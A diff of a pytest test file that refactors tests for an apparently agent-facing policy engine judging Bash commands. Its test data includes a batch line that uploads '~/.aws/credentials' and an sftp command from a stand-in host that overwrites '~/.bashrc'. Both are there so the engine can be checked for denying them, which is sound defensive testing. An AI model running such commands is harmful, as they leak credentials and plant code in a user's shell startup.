@@ -27,23 +27,14 @@ import pytest
 from crustcore_nano.policy.engine import PolicyEngine
 from crustcore_nano.policy.types import ToolCall, Verdict
 
+BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py
+
 
 @pytest.fixture
-def engine(tmp_path: Path, policy_engine: Callable[[Path, Path], PolicyEngine]) -> PolicyEngine:
-    home = tmp_path / "home"
-    made = policy_engine(home, home / "proj")
-    for name, body in ((".aws/credentials", "[default]\n"), (".ssh/id_ed25519", "key\n")):
-        (home / name).parent.mkdir(parents=True, exist_ok=True)
-        (home / name).write_text(body, encoding="utf-8")
-    (home / "proj" / "src").mkdir()
-    (home / "proj" / "src" / "app.py").write_text("print(1)\n", encoding="utf-8")
-    (home / "proj" / "batch.txt").write_text("put ~/.aws/credentials\n", encoding="utf-8")
-    return made
-
-
-def _bash(engine: PolicyEngine, command: str) -> tuple[Verdict, str]:
-    decision = engine.evaluate(ToolCall("Bash", {"command": command}))
-    return decision.verdict, decision.rule
+def engine(seeded_engine: PolicyEngine, tmp_path: Path) -> PolicyEngine:
+    batch = tmp_path / "home" / "proj" / "batch.txt"
+    batch.write_text("put ~/.aws/credentials\n", encoding="utf-8")
+    return seeded_engine
 
 
 @pytest.mark.parametrize(
@@ -78,9 +69,9 @@ def _bash(engine: PolicyEngine, command: str) -> tuple[Verdict, str]:
     ],
 )
 def test_a_scripted_send_of_a_protected_file_is_denied(
-    engine: PolicyEngine, command: str, rule: str
+    bash: BashVerdict, command: str, rule: str
 ) -> None:
-    assert _bash(engine, command) == (Verdict.DENY, rule)
+    assert bash(command) == (Verdict.DENY, rule)
 
 
 @pytest.mark.parametrize(
@@ -109,9 +100,9 @@ def test_a_scripted_send_of_a_protected_file_is_denied(
     ],
 )
 def test_a_send_the_check_cannot_read_or_of_a_project_file_is_asked(
-    engine: PolicyEngine, command: str
+    bash: BashVerdict, command: str
 ) -> None:
-    assert _bash(engine, command) == (Verdict.ASK, "builtin:upload-file")
+    assert bash(command) == (Verdict.ASK, "builtin:upload-file")
 
 
 @pytest.mark.parametrize(
@@ -128,12 +119,12 @@ def test_a_send_the_check_cannot_read_or_of_a_project_file_is_asked(
         "wget -e robots=off -r https://example.com/docs/",
     ],
 )
-def test_downloads_the_check_can_read_are_allowed(engine: PolicyEngine, command: str) -> None:
-    assert _bash(engine, command) == (Verdict.ALLOW, "allow")
+def test_downloads_the_check_can_read_are_allowed(bash: BashVerdict, command: str) -> None:
+    assert bash(command) == (Verdict.ALLOW, "allow")
 
 
-def test_a_download_into_a_startup_file_is_judged_as_a_write(engine: PolicyEngine) -> None:
-    verdict, rule = _bash(engine, "echo 'get profile ~/.bashrc' | sftp h.example.net")
+def test_a_download_into_a_startup_file_is_judged_as_a_write(bash: BashVerdict) -> None:
+    verdict, rule = bash("echo 'get profile ~/.bashrc' | sftp h.example.net")
     assert (verdict, rule) == (Verdict.DENY, "builtin:shell-startup-files")
 
 
